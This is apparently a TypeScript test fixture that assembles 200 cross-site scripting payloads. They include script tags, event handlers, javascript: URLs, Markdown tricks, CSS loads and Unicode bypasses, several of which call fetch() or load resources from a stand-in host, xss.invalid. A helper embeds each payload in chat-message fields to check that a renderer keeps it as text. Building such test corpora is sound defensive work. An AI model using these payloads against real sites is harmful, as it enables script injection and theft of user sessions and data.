/**
 * Texts of somebody who wants a page to run their code, or to ask another server for something. Each one, wherever
 * it is shown, must stay a text. What they would do can be seen from outside: they open a dialog, or they ask the
 * host {@link XSS_HOST}, which no name server knows.
 */

/** Host that no payload may reach. */
export const XSS_HOST = 'xss.invalid'

/** What a payload tries to be. */
export type XssKind =
  | 'element'
  | 'attribute'
  | 'scheme'
  | 'markdown'
  | 'style'
  | 'breakout'
  | 'template'
  | 'object'
  | 'unicode'

/** One text with its number in the corpus. */
export interface XssPayload {
  id: string
  kind: XssKind
  text: string
}

const RUN = 'alert(document.domain)'
const CALL = `fetch('https://${XSS_HOST}/called')`
const ASK = `https://${XSS_HOST}/asked`

/** Elements that run something or load something when they are made. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script>${CALL}</script>`,
  `<script src="${ASK}.js"></script>`,
  `<script type=module>import '${ASK}.mjs'</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\t\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${ASK}.js"/></svg>`,
  `<svg><use href="${ASK}.svg#x"/></svg>`,
  `<svg><image href="${ASK}.png"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>x</text></a></svg>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${ASK}.html"></iframe>`,
  `<frameset><frame src="${ASK}.html"></frameset>`,
  `<object data="${ASK}.swf"></object>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${ASK}.swf">`,
  `<applet code="${ASK}.class"></applet>`,
  `<base href="https://${XSS_HOST}/">`,
  `<meta http-equiv=refresh content="0;url=${ASK}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<link rel=stylesheet href="${ASK}.css">`,
  `<link rel=preload as=script href="${ASK}.js">`,
  `<link rel=prefetch href="${ASK}">`,
  `<link rel=dns-prefetch href="//${XSS_HOST}">`,
  `<link rel=manifest href="${ASK}.json">`,
  `<form action="${ASK}"><input type=submit autofocus></form>`,
  `<form id=root><input name=firstChild><button formaction="javascript:${RUN}">x</button></form>`,
  `<portal src="${ASK}"></portal>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea></textarea><script>${RUN}</script>`,
  `<title></title><img src=x onerror=${RUN}>`,
  `<xmp></xmp><script>${RUN}</script>`,
  `<plaintext><script>${RUN}</script>`,
  `<video poster="${ASK}.jpg"><source src="${ASK}.mp4"></video>`,
  `<audio src="${ASK}.ogg" autoplay></audio>`,
  `<picture><source srcset="${ASK}.webp"><img src="${ASK}.png"></picture>`,
  `<img src="${ASK}.png">`,
  `<img srcset="${ASK}.png 1x">`,
  `<input type=image src="${ASK}.png">`,
  `<body background="${ASK}.png">`,
  `<table background="${ASK}.png"><td>x</table>`,
  `<track src="${ASK}.vtt">`,
  `<bgsound src="${ASK}.wav">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<?xml-stylesheet href="${ASK}.xsl"?>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<custom-element is=script>${RUN}</custom-element>`,
  `<dialog open><script>${RUN}</script></dialog>`,
]

/** Elements that run something when something happens to them. */
const HANDLERS: readonly (readonly [element: string, handler: string])[] = [
  ['img src=x', 'onerror'],
  ['img src=data:,', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onresize'],
  ['body', 'onhashchange'],
  ['input autofocus', 'onfocus'],
  ['input autofocus', 'onfocusin'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['button popovertarget=p', 'onclick'],
  ['div id=p popover', 'onbeforetoggle'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video autoplay src=data:video/mp4,', 'onloadstart'],
  ['iframe src=about:blank', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['marquee', 'onstart'],
  ['div style=animation:x', 'onanimationstart'],
  ['div style=transition:all', 'ontransitionend'],
  ['div', 'onpointerenter'],
  ['div contenteditable', 'onbeforeinput'],
  ['div draggable=true', 'ondragstart'],
  ['svg><animate begin=0s', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onend'],
  ['input type=hidden', 'oncontentvisibilityautostatechange'],
  ['link rel=stylesheet href=x', 'onerror'],
]

/** Targets of links that run something, in the many ways to write them. */
const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript\t:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `%6Aavascript:${RUN}`,
  `javascript://%0A${RUN}`,
  `javascript://example.com/%0A${RUN}`,
  `javascript:/*https://example.com*/${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `vbscript:msgbox(1)`,
  `view-source:javascript:${RUN}`,
  `blob:https://${XSS_HOST}/0`,
  `file:///etc/passwd`,
  `filesystem:https://${XSS_HOST}/temporary/x`,
  `feed:javascript:${RUN}`,
  `jar:https://${XSS_HOST}!/x`,
  `molt:javascript:${RUN}`,
  `molt://local/agents/"onclick="${RUN}`,
  `//${XSS_HOST}/scheme-relative`,
  `\\\\${XSS_HOST}\\share`,
  `mailto:a@b.c?body=<script>${RUN}</script>`,
]

/** Markdown that would become one of the above in a careless renderer. */
const MARKDOWN = [
  `[click](javascript:${RUN})`,
  `[click](<javascript:${RUN}>)`,
  `[click](javascript:${RUN} "title")`,
  `[click](https://example.com "' onmouseover='${RUN}")`,
  `[click](https://example.com" onclick="${RUN})`,
  `[click][x]\n\n[x]: javascript:${RUN}`,
  `[x]: javascript:${RUN} 'title'`,
  `<javascript:${RUN}>`,
  `<https://example.com" onclick="${RUN}>`,
  `![pixel](${ASK}.png)`,
  `![x](x "onerror='${RUN}'")`,
  `![" onerror="${RUN}](https://example.com/x.png)`,
  `![x][y]\n\n[y]: ${ASK}.png`,
  `[![x](${ASK}.png)](javascript:${RUN})`,
  '```"><script>alert(1)</script>\ncode\n```',
  `\`\`\`ts\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `\`\`\`html\n<img src=x onerror=${RUN}>\n\`\`\``,
  `\`<script>${RUN}</script>\``,
  `| <script>${RUN}</script> | b |\n|---|---|\n| <img src=x onerror=${RUN}> | x |`,
  `> <script>${RUN}</script>`,
  `- <script>${RUN}</script>\n  - <svg onload=${RUN}>`,
  `# <script>${RUN}</script>`,
  `**<script>${RUN}</script>**`,
  `~~<img src=x onerror=${RUN}>~~`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\<script>${RUN}\\</script>`,
  `<div>\n\n**bold**\n\n<script>${RUN}</script>\n</div>`,
  `https://example.com/<script>${RUN}</script>`,
  `www.example.com"onmouseover="${RUN}`,
  `[a](https://example.com)<img src=x onerror=${RUN}>`,
]

const STYLES = [
  `<style>@import '${ASK}.css'</style>`,
  `<style>*{background:url(${ASK}.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${ASK}.woff)}*{font-family:x}</style>`,
  `<p style="background:url(${ASK}.png)">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="position:fixed;inset:0;z-index:99999">cover</p>`,
  `"style="background:url(${ASK}.png)`,
  `</style><script>${RUN}</script>`,
  `x;background:url(${ASK}.png)`,
  `url(${ASK}.png)`,
]

/** Ends of the places where a page might have put a text. */
const BREAKOUTS = [
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus x='`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</title><svg onload=${RUN}>`,
  `</a><iframe src=javascript:${RUN}>`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `\`;${RUN};//`,
  `*/${RUN}/*`,
  `\u2028${RUN}\u2029`,
  `\r\n\r\n<script>${RUN}</script>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
]

const TEMPLATES = [
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{%raw%}<script>${RUN}</script>{%endraw%}`,
  `[[${RUN}]]`,
  `$eval('${RUN}')`,
]

/** Texts that some program takes for more than a text. */
const OBJECTS = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${RUN}"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
]

const UNICODE = [
  `\u202e<script>${RUN}</script>\u202c`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<s\u017fcript>${RUN}</s\u017fcript>`,
  `<scr\u200bipt>${RUN}</scr\u200bipt>`,
  `<img src=x o\u0000nerror=${RUN}>`.replace('\u0000', '\u0001'),
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\ufeff<script>${RUN}</script>`,
  `\u{e003c}\u{e0073}\u{e0063}<script>${RUN}</script>`,
]

function numbered(kind: XssKind, texts: readonly string[]): XssPayload[] {
  return texts.map((text, at) => ({ id: `${kind}-${at}`, kind, text }))
}

/** The corpus: 200 texts, each different. */
export const XSS_PAYLOADS: readonly XssPayload[] = [
  ...numbered('element', ELEMENTS),
  ...numbered(
    'attribute',
    HANDLERS.map(([element, handler]) => `<${element} ${handler}=${RUN}>x`),
  ),
  ...numbered('scheme', SCHEMES),
  ...numbered('markdown', MARKDOWN),
  ...numbered('style', STYLES),
  ...numbered('breakout', BREAKOUTS),
  ...numbered('template', TEMPLATES),
  ...numbered('object', OBJECTS),
  ...numbered('unicode', UNICODE),
]

/** A part of a message as it goes over the wire, with plain strings. */
export interface XssPart {
  kind: 'text' | 'url' | 'data' | 'file' | 'image' | 'audio'
  text?: string
  media_type?: string
  url?: string
  filename?: string
  data?: Record<string, unknown>
}

/**
 * Parts that carry a text in every field that a part has, and in every place that Markdown has for it. They pass a
 * server's checks: the text stands in a URL's query where it could not be a URL itself.
 */
export function partsWith(text: string): XssPart[] {
  const line = text.replace(/[\r\n\u2028\u2029]+/g, ' ')
  const url = `https://${XSS_HOST}/?q=${encodeURIComponent(text)}`
  return [
    { kind: 'text', text },
    {
      kind: 'text',
      text: [
        `[${line}](${line})`,
        `[link](<${line}>) ![${line}](${url} "${line}")`,
        `<${line}> **${line}** \`${line}\``,
        `# ${line}`,
        `> ${line}`,
        `- [ ] ${line}`,
        `| ${line} | b |\n|---|---|\n| ${line} | c |`,
        `\`\`\`${line}\n${text}\n\`\`\``,
        `@${line} <@molt://local/agents/${line}> molt://local/agents/${line}`,
      ].join('\n\n'),
    },
    { kind: 'url', url, text: line, filename: line, media_type: line },
    { kind: 'file', url, filename: `${line}.pdf`, media_type: line },
    { kind: 'image', url, filename: line, media_type: 'image/svg+xml' },
    { kind: 'audio', url, filename: line, media_type: line },
    {
      kind: 'data',
      filename: line,
      media_type: line,
      data: { [text]: text, deep: { [text]: [text, { [text]: text }] } },
    },
  ]
}
